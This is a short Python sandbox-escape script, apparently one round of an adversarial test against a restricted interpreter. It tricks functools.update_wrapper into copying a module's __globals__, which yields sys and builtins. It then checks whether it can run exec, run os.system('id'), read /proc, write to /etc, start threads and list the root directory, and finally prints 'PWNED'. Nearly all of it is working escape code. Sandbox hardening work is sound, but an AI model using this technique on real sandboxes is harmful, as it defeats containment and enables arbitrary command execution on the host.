# adversary round 2: 006_post_escape_probe
import functools,dataclasses
d={}
class W:
    def __getattr__(s,n): return d
functools.update_wrapper(W(),dataclasses.fields,(),('__globals__',))
sy=d['sys']; b=d['builtins']; mods=sy.modules
def t(label, f):
    try:
        r=f(); print(label, "OK", repr(r)[:150])
    except BaseException as e:
        print(label, "ERR", type(e).__name__, str(e)[:150])
t("exec", lambda: b.exec("print('from exec')"))
t("eval", lambda: b.eval("1+1"))
t("compile", lambda: b.compile("1","x","eval"))
t("proc", lambda: open("/proc/self/status").read()[:50])
t("os.system", lambda: mods['os'].system("id"))
t("getframe", lambda: sy._getframe(0))
t("gc", lambda: mods.get('gc'))
t("import gc", lambda: b.__import__('gc'))
t("thread", lambda: mods['_thread'].start_new_thread(print,("x",)))
t("write /etc", lambda: open("/etc/x","w"))
t("signal", lambda: mods.get('signal'))
t("listdir", lambda: mods['os'].listdir('/'))
print("PWN"+"ED")
